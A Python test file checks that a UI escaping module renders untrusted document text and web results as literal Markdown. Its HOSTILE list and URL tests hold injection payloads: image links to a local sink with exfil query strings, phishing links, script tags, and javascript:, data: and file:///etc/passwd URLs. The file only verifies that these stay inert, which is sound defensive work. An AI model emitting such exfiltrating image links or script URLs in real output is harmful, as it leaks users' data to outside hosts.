"""ui.safe: untrusted text becomes Markdown that renders literally (security finding 3)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.ui.markdown_tokens import links, live_parts, shown_text, tokens
from ui import safe

SINK = "http://127.0.0.1:9"
HOSTILE = [
    f"![x]({SINK}/leak-doc)",
    f"![status]({SINK}/exfil?q=what+is+the+password)",
    f"[click me]({SINK}/phish)",
    f'[ref]: {SINK}/definition "t"\n\n[ref]',
    f"![ref][img]\n\n[img]: {SINK}/ref-image",
    f"<{SINK}/angle-autolink>",
    f"bare {SINK}/autolink and HTTPS://127.0.0.1:9/upper",
    "www.example.com and WWW.Example.org/x",
    "mail admin@example.com or mailto:admin@example.com",
    f"<img src={SINK}/html>",
    f'<a href="{SINK}/a">a</a> <script>alert(1)</script> <!-- c -->',
    "&lt;img src=x&gt; &#60;b&#62;",
    "# Heading\n## Second\nSetext\n===\nOther\n---",
    "- item\n+ item\n* item\n1. one\n2) two\n> quote",
    "| a | b |\n|---|:-:|\n| 1 | 2 |",
    "```python\nprint(1)\n```\n~~~\nx\n~~~",
    "    indented code\n\n\tтab code",
    "**bold** __bold__ *em* _em_ ~~gone~~ `code`",
    "$x^2$ and $$\\int$$",
    ":smile: :material/home: :red[red] :blue-badge[b]",
    "text\\\nhard break \\![not an image]\\(x)",
    "[^1] footnote\n\n[^1]: " + SINK + "/footnote",
    "***\n___\n- - -",
    "<div>\n\n![x](" + SINK + "/in-html-block)\n\n</div>",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_renders_as_the_same_text(hostile: str) -> None:
    out = safe.escape_text(hostile)
    assert live_parts(out) == []
    assert shown_text(out) == _paragraphs(hostile)


def _paragraphs(text: str) -> str:
    """What escape_text shows: lines stripped, runs of blank lines as one paragraph break."""
    blocks, current = [], []
    for line in text.splitlines():
        if line.strip(" \t"):
            current.append(line.strip(" \t"))
        elif current:
            blocks.append("\n".join(current))
            current = []
    if current:
        blocks.append("\n".join(current))
    return "\n\n".join(blocks)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_every_helper_keeps_hostile_text_literal(hostile: str) -> None:
    assert live_parts(safe.escape_inline(hostile)) == []
    assert shown_text(safe.escape_inline(hostile)) == " ".join(hostile.split())
    assert live_parts(safe.quote_block(hostile), allow=frozenset({"blockquote"})) == []
    # an answer may carry emphasis (its key span in bold), nothing else
    assert live_parts(safe.answer_markdown(hostile, {1, 2}), allow=frozenset({"strong"})) == []


@given(
    st.text(alphabet=st.sampled_from(list("!#$&()*+-.:<=>@[\\]_`{|}~ \t\nab1wh/p")), max_size=60)
)
def test_any_mix_of_markdown_characters_stays_text(text: str) -> None:
    out = safe.escape_text(text)
    assert live_parts(out) == []
    assert shown_text(out) == _paragraphs(text)
    assert live_parts(safe.escape_inline(text)) == []


def test_only_the_answers_own_citations_become_bold() -> None:
    text = "Thirty days[1][2], not [3] nor [x] nor [1](http://e.x).\n[2]- next"
    out = safe.answer_markdown(text, {1, 2})
    assert out.startswith("Thirty days\\[**1**\\]\\[**2**\\], not \\[3\\]")
    assert live_parts(out, allow=frozenset({"strong"})) == []
    strong = [t for t in tokens(out) if t.type == "strong_open"]
    assert len(strong) == 4  # bold even right after a letter, and next to each other
    assert links(out) == []  # citations are bold text, never links
    assert shown_text(out) == text


def test_citations_link_to_their_source_cards_and_nothing_else() -> None:
    text = "Thirty days[1] [2] [3], see [1](http://e.x)."
    anchors = {1: "src-ab12-0-1", 2: "src-ab12-0-2", 3: "javascript:alert(1)"}
    out = safe.answer_markdown(text, {1, 2, 3}, anchors)
    assert links(out) == ["#src-ab12-0-1", "#src-ab12-0-2", "#src-ab12-0-1"]  # no URL, no js:
    assert live_parts(out, allow=frozenset({"strong", "link"})) == []
    assert shown_text(out) == text


@given(st.text(alphabet=st.sampled_from(list("[]12*_\\ a.!(")), max_size=30))
def test_citation_bolding_never_makes_anything_else_live(text: str) -> None:
    out = safe.answer_markdown(text, {1, 2})
    assert live_parts(out, allow=frozenset({"strong"})) == []
    if "**" not in text:  # a `**key span**` is bold by design: its marks are not shown
        assert shown_text(out) == _paragraphs(text)


def test_streamed_partial_markdown_is_still_text() -> None:
    answer = f"The window is 30 days [1]. ![status]({SINK}/exfil?q=secret)"
    for end in range(len(answer) + 1):
        assert live_parts(safe.escape_text(answer[:end]) + "▌") == []


def test_plain_text_reads_the_same() -> None:
    assert safe.escape_inline("supply.md · Penalties · p. 2") == "supply.md · Penalties · p. 2"
    assert (
        safe.escape_inline("供货合同.md · 供货合同 > 违约责任")
        == "供货合同.md · 供货合同 > 违约责任"
    )
    assert safe.escape_text("Line one\nline two\n\n\nNew paragraph") == (
        "Line one  \nline two\n\nNew paragraph"
    )


@pytest.mark.parametrize(
    ("url", "domain", "href"),
    [
        ("https://example.org/x", "example.org", "https://example.org/x"),
        ("HTTP://Example.ORG:8080/a b(c)<d>?q=1#f", "example.org",
         "http://example.org:8080/a%20b%28c%29%3Cd%3E?q=1#f"),
        ("https://bank.example@evil.example/login", "evil.example", "https://evil.example/login"),
        ("https://例子.测试/路径", "xn--fsqu00a.xn--0zwm56d",
         "https://xn--fsqu00a.xn--0zwm56d/%E8%B7%AF%E5%BE%84"),
        ("http://[::1]:8501", "[::1]", "http://[::1]:8501/"),
        ("https://example.org/a)](javascript:alert(1))", "example.org",
         "https://example.org/a%29%5D%28javascript:alert%281%29%29"),
    ],
)  # fmt: skip
def test_web_links_are_rebuilt_from_parsed_http_urls(url: str, domain: str, href: str) -> None:
    link = safe.web_link(url)
    assert link == safe.WebLink(domain=domain, href=href)
    markdown = safe.link_markdown(link)
    assert links(markdown) == [href]
    assert live_parts(markdown, allow=frozenset({"link"})) == []


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "file:///etc/passwd",
        "//evil.example/x",
        "/relative",
        "http://",
        "https://exa mple.org/",
        "http://evil.example:99999/",
        "",
        None,
    ],
)
def test_anything_but_http_urls_gets_no_link(url: str | None) -> None:
    assert safe.web_link(url) is None


def test_a_link_label_is_escaped_too() -> None:
    link = safe.web_link("https://example.org/")
    assert link is not None
    markdown = safe.link_markdown(link, label=f"![x]({SINK}/label)")
    assert links(markdown) == ["https://example.org/"]
    assert live_parts(markdown, allow=frozenset({"link"})) == []


def test_a_web_result_line_has_one_link_we_built() -> None:
    from graph.result import WebResultRecord
    from ui.formatting import web_result_line

    hostile = WebResultRecord(
        url="https://user@news.example/a(b)",
        title=f"![t]({SINK}/title) <img src=x>",
        snippet=f"see [here]({SINK}/snippet) www.evil.example",
    )
    line = web_result_line(hostile)
    assert links(line) == ["https://news.example/a%28b%29"]
    assert live_parts(line, allow=frozenset({"link"})) == []
    assert shown_text(line).startswith(f"![t]({SINK}/title) <img src=x> (news.example) — see [")
    script = WebResultRecord(url="javascript:alert(1)", title="x")
    assert links(web_result_line(script)) == []
    assert "javascript:alert(1)" in shown_text(web_result_line(script))


def test_an_answers_key_span_stays_bold_with_its_inside_escaped() -> None:
    from tests.ui.markdown_tokens import links, live_parts

    md = safe.answer_markdown("The documents say: “kept for **30 days**.” [1]", {1})
    assert "**30 days**" in md and live_parts(md, allow=frozenset({"strong"})) == []
    hostile = safe.answer_markdown("**![i](http://127.0.0.1:9/x)** and **[a](http://e)**", set())
    assert links(hostile) == [] and live_parts(hostile, allow=frozenset({"strong"})) == []
    assert safe.escape_text("**not ours**") == "\\*\\*not ours\\*\\*"  # only answers keep it


TABLE_TOKENS = frozenset({"table", "thead", "tbody", "tr", "th", "td", "strong"})


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_quoted_row_is_a_table_of_literal_cells(hostile: str) -> None:
    """A row from a document (its cells untrusted) becomes a GFM table with one header row and
    one data row, as many columns as it has cells, every cell's text shown as it is."""
    cells = ("Wk 3", hostile, "a | b")
    markdown = safe.table_markdown(("Week", "Note", "Piped"), cells)
    assert live_parts(markdown, allow=TABLE_TOKENS) == []
    kinds = [t.type for t in tokens(markdown)]
    assert kinds.count("tr_open") == 2 and kinds.count("th_open") == kinds.count("td_open") == 3
    shown = [
        t.content.replace("\u2060", "")
        for t in tokens(markdown)
        if t.type == "inline" and t.content is not None
    ]
    assert len(shown) == 6
    assert shown[5] == "a | b"  # the pipe stays inside its cell (three cells, not four)


def test_an_answer_quoting_a_row_shows_it_as_a_small_table() -> None:
    row = safe.QuotedRow(
        shown="Week: 12; Primary: Ana Ruiz; Backup phone: 555-0199",
        key="12",
        header=("Week", "Primary", "Backup phone"),
        cells=("12", "Ana Ruiz", "555-0199"),
    )
    other = safe.QuotedRow(
        "Week: 13; Primary: Cy Dale", "13", ("Week", "Primary"), ("13", "Cy Dale")
    )
    answer = (
        "The documents say: “Week: 12; Primary: Ana Ruiz; Backup phone: **555-0199**” [1]\n\n"
        "Evidence:\n- Week: 13; Primary: Cy Dale [2]\n- A sentence about it. [2]\n"
    )
    markdown = safe.answer_markdown(answer, {1, 2}, {}, [row, other])
    assert live_parts(markdown, allow=TABLE_TOKENS) == []
    kinds = [t.type for t in tokens(markdown)]
    assert kinds.count("table_open") == 2  # one small table a quoted row, one row each
    assert kinds.count("tr_open") == 4
    assert "Ana Ruiz;" not in markdown and "Primary:" not in markdown  # no run-on quote left
    assert "**555⁠-0199**".replace("⁠", "") in markdown.replace("\u2060", "")  # its span bold
    text = shown_text(markdown)
    assert text.index("The documents say") < text.index("Evidence")
    assert "Week 13" in text and "A sentence about it." in text
    # without rows the answer reads exactly as before
    assert safe.answer_markdown(answer, {1, 2}, {}) == safe.answer_markdown(answer, {1, 2})
